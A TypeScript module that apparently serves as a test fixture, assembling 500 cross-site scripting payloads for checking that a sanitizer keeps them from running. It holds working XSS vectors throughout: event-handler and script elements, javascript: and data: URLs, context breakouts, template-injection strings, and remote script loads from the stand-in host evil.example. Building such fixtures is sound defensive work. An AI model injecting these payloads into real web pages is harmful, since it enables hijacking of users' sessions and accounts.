/** Texts that would run a script where they are taken for markup, an address, a template or code. */

const call = "executed(1)";

/** Elements that run something by themselves, or as soon as they are touched. */
const elements = [
  `<script>${call}</script>`,
  `<script src="data:text/javascript,${call}"></script>`,
  `<script src="//evil.example/x.js"></script>`,
  `<img src=x onerror=${call}>`,
  `<img src="//evil.example/x.png">`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"/>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<object data="data:text/html,<script>${call}</script>"></object>`,
  `<embed src="javascript:${call}">`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}></audio>`,
  `<details open ontoggle=${call}><summary>x</summary></details>`,
  `<input autofocus onfocus=${call}>`,
  `<x tabindex=0 autofocus onfocus=${call}>x</x>`,
  `<link rel=stylesheet href="//evil.example/x.css" onerror=${call}>`,
  `<style onload=${call}>*{color:red}</style>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<base href="//evil.example/">`,
] as const;

/** What first leaves the place the text may stand in. */
const breakouts = [
  "",
  `">`,
  `'>`,
  "`>",
  "-->",
  "]]>",
  "</script>",
  "</style>",
  "</title>",
  "</textarea>",
  "</template>",
  "</noscript>",
  "</select>",
  "</svg>",
  "</math><math><mtext>",
  "<!--",
  "<![CDATA[",
  "\u0000",
] as const;

const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `\u0001javascript:${call}`,
  ` javascript:${call}`,
  `javascript://%0a${call}`,
  `javascript&colon;${call}`,
  `&#106;avascript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5leGVjdXRlZCgxKTwvc2NyaXB0Pg==`,
  `vbscript:${call}`,
  `blob:${call}`,
  `//evil.example/`,
  `https://evil.example/"onmouseover="${call}`,
  `#"autofocus onfocus="${call}`,
] as const;

const attributes = [
  `" autofocus onfocus="${call}`,
  `' autofocus onfocus='${call}`,
  ` autofocus onfocus=${call} `,
  `" style="animation:x" onanimationstart="${call}`,
  `"/onmouseover="${call}`,
  `" onload="${call}" x="`,
] as const;

const templates = [
  `{{constructor.constructor("${call}")()}}`,
  `{{${call}}}`,
  `\${${call}}`,
  `#{${call}}`,
  `<%= ${call} %>`,
  `[[${call}]]`,
  `{%${call}%}`,
  `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${call}"}}}`,
  `[x](javascript:${call})`,
  `![x](x"onerror="${call})`,
  `<javascript:${call}>`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
] as const;

const code = [
  `";${call};//`,
  `';${call};//`,
  `\`;${call};//`,
  `\\";${call};//`,
  `\\';${call};//`,
  `"-${call}-"`,
  `'-${call}-'`,
  `\u2028${call}\u2029`,
  `*/${call}/*`,
  `\n${call}\n`,
  `);${call};(`,
  `}${call};{`,
  `__proto__`,
  `constructor`,
  `toString`,
  `</script><script>${call}//`,
  `;url(javascript:${call})`,
  `expression(${call})`,
  `}*{background:url(//evil.example/x)}`,
  `@import "//evil.example/x.css";`,
] as const;

const encoded = elements.flatMap((element) => [
  element.toUpperCase().replaceAll("EXECUTED", "executed"),
  element.replaceAll("<", "<\n"),
]);

/** 500 different texts, all of which a browser would have to be kept from running. */
export const xssPayloads: readonly string[] = [
  ...addresses,
  ...attributes,
  ...templates,
  ...code,
  ...breakouts.flatMap((breakout) => elements.map((element) => breakout + element)),
  ...encoded,
].slice(0, 500);
